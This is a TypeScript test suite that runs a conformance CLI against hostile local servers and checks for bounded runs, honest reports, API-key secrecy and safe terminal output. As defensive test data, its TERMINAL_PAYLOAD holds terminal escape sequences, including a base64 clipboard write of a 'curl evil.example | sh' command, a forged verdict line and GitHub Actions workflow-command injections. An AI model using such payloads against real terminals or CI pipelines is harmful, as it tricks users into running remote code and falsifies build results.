import { readdirSync, readFileSync } from 'node:fs';
import type { IncomingMessage } from 'node:http';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, test, vi } from 'vitest';
import type { TestContext } from 'vitest';
import { type ReferenceServer, startReferenceServer } from '../../src/reference/index.ts';
import { type Answer, type HostileServer, closedPortOrigin, drip, startHttp, startResetting, startTampering, streamHuge } from './support/hostile-servers.ts';
import { findLeaks } from './support/leaks.ts';
import { createLimiter } from './support/limiter.ts';
import { type CliRun, runCliInTest } from './support/run-cli.ts';

/**
 * The CLI against targets that misbehave: every run must end in bounded time with exit 1 or 2, write a
 * conformance.json that says what happened, never write or print the API key, and never send the key
 * to another origin.
 */

const API_KEY = 'hostile-Key-7Q2xZ9vT4mW8pL3nR6sJ';
const CONCURRENCY = 2;
const MAX_RUN_MS = 120_000;
/** Just past the bound the run is killed, so a run that would never end still fails readably. */
const KILL_AFTER_MS = 130_000;

type Context = Pick<TestContext, 'onTestFinished'>;

interface HostileCase {
  name: string;
  /** The origin to test, and a second server that must never see the key. */
  start(context: Context): Promise<{ origin: string; bystander?: HostileServer }>;
  /** What conformance.json must mention, beyond a verdict of not-conformant or incomplete. */
  mentions?: RegExp;
  /** Instead of --profile quick. */
  profileArgs?: string[];
  /** The exit code the run must end with, when one alone is right. */
  exit?: number;
}

const json = (status: number, body: string, headers: Record<string, string | string[]> = {}) => ({ status, body, headers });

/** Answers 200 text/html, echoing the Authorization header it received (a debug page, a bad proxy). */
const echoAuthorization = (c: Context) =>
  startHttp(c, (req, res) => {
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
    res.end(`<!doctype html><html><body><h1>Welcome</h1><p>you sent ${req.headers.authorization ?? 'nothing'}</p></body></html>`);
  });

/** Answers 200 with a JSON body echoing the Authorization header: it passes the preflight, then fails auth. */
const echoAuthorizationJson = (c: Context) =>
  startHttp(c, (req, res) => {
    res.writeHead(200, { 'Content-Type': 'application/json' });
    res.end(JSON.stringify({ youSent: req.headers.authorization ?? null }));
  });

const CASES: readonly HostileCase[] = [
  {
    // Read conservatively, the headers say the key is spent for longer than the quick profile waits in
    // all: the run gives up waiting at once (the client's tests count the waits that fit before that).
    name: 'sends duplicated, contradicting rate-limit headers',
    start: (c) =>
      answering(c, () => {
        const reset = String(Math.floor(Date.now() / 1000) + 150);
        return json(200, '[]', { 'X-RateLimit-Limit': ['60', '1000'], 'X-RateLimit-Remaining': ['59', '0'], 'X-RateLimit-Reset': [reset, reset] });
      }),
    mentions: /RATE-00[123]/,
  },
  { name: 'hangs: accepts and never answers', start: async (c) => startHttp(c, () => undefined), mentions: /ERR_TARGET_TIMEOUT/ },
  { name: 'resets every connection', start: (c) => startResetting(c), mentions: /ERR_TARGET_UNREACHABLE/ },
  { name: 'answers text/html 200 to everything, echoing the Authorization header', start: echoAuthorization, mentions: /ERR_NOT_ANIMAL_STORE/ },
  {
    // The auth tests of the standard profile send the key in other forms (Basic, base64, a prefix, the query).
    name: 'echoes the Authorization header in JSON to the auth tests of the standard profile',
    start: echoAuthorizationJson,
    mentions: /AUTH-00[1-6]/,
    profileArgs: ['--profile', 'standard', '--only', 'auth'],
  },
  // The body is the target's failure of the requirement that needed it, not the suite's error.
  { name: 'sends a 50 MB body', start: (c) => startHttp(c, (_req, res) => streamHuge(res, 50 * 1024 * 1024)), mentions: /larger than 2097152 bytes/, exit: 1 },
  { name: 'drips one byte a second', start: (c) => startHttp(c, (_req, res) => drip(res)), mentions: /ERR_TARGET_TIMEOUT/ },
  {
    name: 'sends malformed rate-limit headers',
    start: (c) => answering(c, () => json(200, '[]', { 'X-RateLimit-Limit': 'sixty', 'X-RateLimit-Remaining': '-1', 'X-RateLimit-Reset': 'tomorrow' })),
    mentions: /RATE-00[12]/,
  },
  {
    name: 'redirects (302) every request to another origin',
    start: async (c) => {
      const bystander = await answering(c, () => json(200, '[]'));
      const target = await startHttp(c, (req, res) => {
        res.writeHead(302, { Location: `${bystander.origin}${req.url ?? '/'}` });
        res.end();
      });
      return { origin: target.origin, bystander };
    },
    mentions: /302/,
  },
  { name: 'a closed port (nothing listening)', start: async () => ({ origin: await closedPortOrigin() }), mentions: /ERR_TARGET_UNREACHABLE/ },
];

/** A server answering every request with the same made-up response. */
function answering(context: Context, reply: () => { status: number; body: string; headers: Record<string, string | string[]> }): Promise<HostileServer> {
  return startHttp(context, (_req, res) => {
    const { status, body, headers } = reply();
    res.writeHead(status, { 'Content-Type': 'application/json', ...headers });
    res.end(body);
  });
}

vi.setConfig({ maxConcurrency: CONCURRENCY });

describe('hostile targets: bounded, honest, and the key stays secret', () => {
  const limiter = createLimiter(CONCURRENCY);
  const rows: string[] = [];
  afterAll(() => console.log(['hostile target → exit, verdict, time, harness errors', ...rows].join('\n')));

  for (const hostile of CASES) {
    test.concurrent(
      hostile.name,
      async ({ expect, onTestFinished }) => {
        const { origin, bystander } = await hostile.start({ onTestFinished });
        const args = ['--target', `${origin}/v1`, '--api-key', API_KEY, ...(hostile.profileArgs ?? ['--profile', 'quick']), '--timeout', '2000'];
        const run = await limiter.run(() => runCliInTest({ onTestFinished }, args, { timeoutMs: KILL_AFTER_MS, label: 'hostile' }));
        const report = run.report;
        const codes = [...new Set(report?.harnessErrors.map((e) => e.code) ?? [])];
        const failing = report?.requirements.filter((r) => r.verdict === 'fail' || r.verdict === 'warn').map((r) => r.id) ?? [];
        rows.push(
          `  ${hostile.name}: exit ${run.exitCode ?? `killed after ${run.killedAfterMs} ms`}, ${report?.verdict.label ?? 'no report'}, ${(run.durationMs / 1000).toFixed(1)} s, ${codes.join(' ') || '-'}, fails ${failing.join(',') || '-'}${bystander ? `, bystander saw ${bystander.seen.requests} requests` : ''}`,
        );
        const why = `${hostile.name}: exit ${run.exitCode}, ${report?.verdict.why ?? 'no report'} (${run.reportDir})\n${run.stdout.slice(-1500)}\n${run.stderr.slice(-1500)}`;

        expect(run.killedAfterMs, `the run was killed after ${KILL_AFTER_MS} ms\n${why}`).toBeUndefined();
        expect(run.durationMs, why).toBeLessThan(MAX_RUN_MS);
        expect(hostile.exit === undefined ? [1, 2] : [hostile.exit], why).toContain(run.exitCode);
        expect(report, `no conformance.json\n${why}`).toBeDefined();
        expect(['not-conformant', 'incomplete'], why).toContain(report?.verdict.overall);
        expect(codes.length + failing.length, `the report names neither a harness error nor a failure\n${why}`).toBeGreaterThan(0);
        if (hostile.mentions) expect(JSON.stringify(report), why).toMatch(hostile.mentions);
        expect(findLeaks(API_KEY, run), `the API key (or a near form of it) was written or printed (${run.reportDir})`).toEqual([]);
        if (bystander) {
          expect(
            bystander.seen.authorizations.filter((a) => a !== undefined),
            'Authorization sent to another origin',
          ).toEqual([]);
        }
      },
      KILL_AFTER_MS + 30_000,
    );
  }
});

/**
 * Hostile bytes: a correct reference behind a proxy that spoils one thing about the bytes, or a small
 * server that answers like a broken Animal Store. The bytes are judged (never CONFORMANT on bytes that
 * are not JSON), the key is in no output or file in any encoding, and no control character or workflow
 * command the target wrote reaches stdout.
 */
describe('hostile bytes: judged, never repaired; nothing the target wrote reaches the terminal raw', () => {
  const limiter = createLimiter(CONCURRENCY);
  let upstream: ReferenceServer;
  beforeAll(async () => {
    upstream = await startReferenceServer({ keys: [{ key: API_KEY, plan: 'enterprise', perMinute: 1_000_000, perDay: 10_000_000 }], log: () => undefined });
  });
  afterAll(() => upstream.close());
  const upstreamOrigin = () => upstream.url.replace(/\/v1$/, '');

  /** Rewrites every JSON body the reference sends with `edit` (text in, bytes out). */
  const jsonBodies = (edit: (text: string, req: IncomingMessage) => Buffer | string) => (answer: Answer, req: IncomingMessage) => {
    if (!String(answer.headers['content-type'] ?? '').includes('json') || answer.body.length === 0) return answer;
    const edited = edit(answer.body.toString('utf8'), req);
    return { ...answer, body: Buffer.isBuffer(edited) ? edited : Buffer.from(edited) };
  };
  const isListPets = (req: IncomingMessage) => req.method === 'GET' && /^\/v1\/pets(\?|$)/.test(req.url ?? '');
  const rateLimitHeaders = () => ({
    'X-RateLimit-Limit': '600',
    'X-RateLimit-Remaining': '599',
    'X-RateLimit-Reset': String(Math.floor(Date.now() / 1000) + 60),
  });

  interface BytesCase {
    name: string;
    start(context: Context): Promise<string>;
    exit: number;
    /** What conformance.json must say. */
    mentions?: RegExp;
    env?: Record<string, string>;
  }

  const CASES: readonly BytesCase[] = [
    {
      // In free text: decoded with replacement characters, nothing the suite compares would change.
      name: 'invalid UTF-8 (a 0xff byte) in the message of every Error body',
      start: async (c) =>
        (
          await startTampering(
            c,
            upstreamOrigin(),
            jsonBodies((text) => insertAfter(text, '"message":"', Buffer.from([0xff]))),
          )
        ).origin,
      exit: 1,
      mentions: /not UTF-8: invalid byte 0xff at byte \d+/,
    },
    {
      name: 'a duplicated key "id" in every object (no long number in the body)',
      start: async (c) =>
        (
          await startTampering(
            c,
            upstreamOrigin(),
            jsonBodies((text) => text.replace(/\{"id":/g, '{"id":"dup","id":')),
          )
        ).origin,
      exit: 1,
      mentions: /duplicate key \\"id\\"/,
    },
    {
      name: 'a duplicated key "id" in every object, next to a 16-digit number',
      start: async (c) =>
        (
          await startTampering(
            c,
            upstreamOrigin(),
            jsonBodies((text) => text.replace(/\{"id":/g, '{"n":1234567890123456,"id":"dup","id":')),
          )
        ).origin,
      exit: 1,
      mentions: /duplicate key \\"id\\"/,
    },
    {
      name: 'listPets answers 100,000-deep nested JSON',
      start: async (c) =>
        (
          await startTampering(
            c,
            upstreamOrigin(),
            jsonBodies((text, req) => (isListPets(req) ? `${'['.repeat(100_000)}${']'.repeat(100_000)}` : text)),
          )
        ).origin,
      exit: 1,
      mentions: /nesting deeper than 128 levels/,
    },
    {
      name: 'listPets answers application/json that is not JSON, with the rate-limit headers an Animal Store sends',
      start: async (c) =>
        (
          await startTampering(
            c,
            upstreamOrigin(),
            jsonBodies((text, req) => (isListPets(req) ? '{"oops"' : text)),
          )
        ).origin,
      exit: 1,
      mentions: /SCH-004[\s\S]*does not parse/,
    },
    {
      name: 'echoes the key: a header named after it, and the key JSON-escaped, percent-encoded and in base64 in bodies',
      start: async (c) =>
        (
          await startTampering(c, upstreamOrigin(), (answer, req) => {
            const key = (req.headers.authorization ?? '').replace(/^Bearer /, '');
            if (key.length < 8) return answer;
            const hex = (ch: string) => ch.charCodeAt(0).toString(16).padStart(2, '0');
            const jsonEscaped = [...key].map((ch, i) => (i % 2 ? `\\u00${hex(ch)}` : `\\u00${hex(ch).toUpperCase()}`)).join('');
            const percent = [...key].map((ch) => `%${hex(ch).toUpperCase()}`).join('');
            const base64 = Buffer.from(`Bearer ${key}`).toString('base64');
            // A header can be named after the key only when it is an HTTP token (the auth tests also send other schemes).
            const named = /^[!#$%&'*+.^_`|~0-9A-Za-z-]+$/.test(key) ? { [key]: 'seen', [`x-${key.toLowerCase()}`]: base64 } : {};
            const headers = { ...answer.headers, ...named, 'x-echo': percent };
            const body = isListPets(req) ? Buffer.from(`[{"id":1,"name":"${jsonEscaped}","categoryId":"${percent}","status":"${base64}"}]`) : answer.body;
            return { ...answer, headers, body };
          })
        ).origin,
      exit: 1,
    },
    {
      name: 'writes escape sequences, a fake verdict line and ::error:: workflow commands in application/json bodies',
      start: async (c) =>
        (
          await startHttp(c, (_req, res) => {
            res.writeHead(200, { 'Content-Type': 'application/json', ...rateLimitHeaders() });
            res.end(TERMINAL_PAYLOAD);
          })
        ).origin,
      exit: 1,
      env: { GITHUB_ACTIONS: 'true' },
      mentions: /not JSON/,
    },
    {
      name: 'answers gzip bytes as application/json, without Content-Encoding',
      start: async (c) =>
        (
          await startHttp(c, (_req, res) => {
            res.writeHead(200, { 'Content-Type': 'application/json', ...rateLimitHeaders() });
            res.end(gzipSync('[{"id":1,"name":"Rex","categoryId":1}]'));
          })
        ).origin,
      exit: 1,
      mentions: /invalid byte 0x8b at byte 1/,
    },
    {
      name: 'sends an unsolicited 100 Continue before every answer (legal HTTP): tested like the reference behind it',
      start: async (c) => (await startTampering(c, upstreamOrigin(), (answer) => answer, { continueFirst: true })).origin,
      exit: 0,
    },
  ];

  for (const hostile of CASES) {
    test.concurrent(
      hostile.name,
      async ({ expect, onTestFinished }) => {
        const origin = await hostile.start({ onTestFinished });
        const args = ['--target', `${origin}/v1`, '--api-key', API_KEY, '--profile', 'quick', '--timeout', '5000', '--seed', '7'];
        const run = await limiter.run(() => runCliInTest({ onTestFinished }, args, { timeoutMs: KILL_AFTER_MS, label: 'hostile-bytes', env: hostile.env }));
        const report = run.report;
        const why = `${hostile.name}: exit ${run.exitCode}, ${report?.verdict.why ?? 'no report'} (${run.reportDir})\n${run.stdout.slice(-2500)}\n${run.stderr.slice(-1500)}`;
        expect(run.exitCode, why).toBe(hostile.exit);
        expect(report, why).toBeDefined();
        if (hostile.exit !== 0) expect(report?.verdict.overall, why).toBe('not-conformant');
        else expect(report?.harnessErrors, why).toEqual([]);
        const json = readFileSync(join(run.reportDir, 'conformance.json'), 'utf8');
        if (hostile.mentions) expect(json, why).toMatch(hostile.mentions);
        // The suite never blames itself for what the target sent.
        expect(json, why).not.toMatch(/Maximum call stack|ERR_INTERNAL|ERR_RESPONSE_TOO_LARGE|report (it|this) as a suite bug/);
        expect(findLeaks(API_KEY, run), 'near forms of the key').toEqual([]);
        expect(keyInAnyEncoding(API_KEY, run), 'the key in some encoding').toEqual([]);
        expect(terminalHazards(run.stdout), `stdout\n${why}`).toEqual([]);
        expect(terminalHazards(run.stderr), `stderr\n${why}`).toEqual([]);
        // The HTML report shows the same payloads inert.
        expect(readFileSync(join(run.reportDir, 'conformance.html'), 'utf8')).not.toMatch(HTML_RAW_CONTROL);
      },
      KILL_AFTER_MS + 30_000,
    );
  }
});

/** The text as UTF-8 with `bytes` after every occurrence of `marker`. */
function insertAfter(text: string, marker: string, bytes: Buffer): Buffer {
  return Buffer.concat(text.split(marker).flatMap((part, i) => (i === 0 ? [Buffer.from(part)] : [Buffer.from(marker), bytes, Buffer.from(part)])));
}

/** What a hostile target writes for the terminal: clear screen, OSC 52 clipboard, a hyperlink, a fake verdict, workflow commands. */
const TERMINAL_PAYLOAD =
  '\u001b[2J\u001b[H\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b]8;;https://evil.example\u001b\\here\u001b]8;;\u001b\\\u009b31m\n' +
  'CONFORMANT: All 51 MUST requirements pass\n::error::the target wrote this\n  ::add-mask::x\r::stop-commands::t0k3n\n';

// eslint-disable-next-line no-control-regex -- the point: no raw control character may remain
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

// eslint-disable-next-line no-control-regex -- the same, but a page may keep CR and LF (inside <pre>)
const HTML_RAW_CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e]/;

/**
 * The suite's own annotations: the gate's decision, a probable cause (its requirements first, then its
 * words, with ':' and ',' escaped), or a harness error code, as the title.
 */
const SUITE_ANNOTATION = /^::(?:error title=(?:Gate fail|[A-Z]+-\d{3}[^:\r]*|ERR_[A-Z_]+)|notice title=Gate pass)::[^\r]*$/;

/** Lines that a terminal or GitHub Actions would obey or believe, beyond the suite's own annotations. */
function terminalHazards(output: string): string[] {
  const hazards: string[] = [];
  for (const line of output.split('\n')) {
    if (RAW_CONTROL.test(line)) hazards.push(`raw control character: ${JSON.stringify(line.slice(0, 120))}`);
    if (/^\s*CONFORMANT:/.test(line)) hazards.push(`a verdict line the run did not reach: ${JSON.stringify(line.slice(0, 120))}`);
    if (line.trimStart().startsWith('::') && !SUITE_ANNOTATION.test(line)) hazards.push(`a workflow command: ${JSON.stringify(line.slice(0, 120))}`);
  }
  return hazards;
}

/**
 * Every written file, stdout and stderr, decoded every way the key could be hidden (JSON and JavaScript
 * escapes, percent-encoding once or twice, HTML character references), searched for the key's first two
 * thirds in any case, and for the base64 and base64url of the key at each alignment.
 */
function keyInAnyEncoding(key: string, run: Pick<CliRun, 'stdout' | 'stderr' | 'reportDir'>): string[] {
  const stem = key.slice(0, Math.ceil((key.length * 2) / 3));
  const decode = (text: string) =>
    text
      .replace(/\\+u([0-9a-f]{4})/gi, (_m, h: string) => String.fromCharCode(Number.parseInt(h, 16)))
      .replace(/\\+x([0-9a-f]{2})/gi, (_m, h: string) => String.fromCharCode(Number.parseInt(h, 16)))
      .replace(/%(?:25)?([0-9a-f]{2})/gi, (_m, h: string) => String.fromCharCode(Number.parseInt(h, 16)))
      .replace(/&#x([0-9a-f]+);?/gi, (_m, h: string) => String.fromCharCode(Number.parseInt(h, 16)))
      .replace(/&#(\d+);?/g, (_m, d: string) => String.fromCharCode(Number(d)));
  const base64Forms: string[] = [];
  for (const shift of [0, 1, 2]) {
    const encoded = Buffer.concat([Buffer.alloc(shift), Buffer.from(stem)]).toString('base64');
    const core = encoded.slice([0, 2, 3][shift], Math.floor((shift + stem.length) / 3) * 4);
    base64Forms.push(core, core.replaceAll('+', '-').replaceAll('/', '_'));
  }
  const places: Array<[string, string]> = [
    ['stdout', run.stdout],
    ['stderr', run.stderr],
    ...readdirSync(run.reportDir, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry): [string, string] => [entry.name, readFileSync(join(entry.parentPath, entry.name), 'utf8')]),
  ];
  const leaks: string[] = [];
  for (const [place, text] of places) {
    const decoded = decode(decode(text)).toLowerCase();
    if (decoded.includes(stem.toLowerCase())) leaks.push(`${place}: the key, decoded`);
    for (const form of base64Forms) if (text.includes(form) || text.replaceAll('\\/', '/').includes(form)) leaks.push(`${place}: base64 ${form}`);
  }
  return leaks;
}
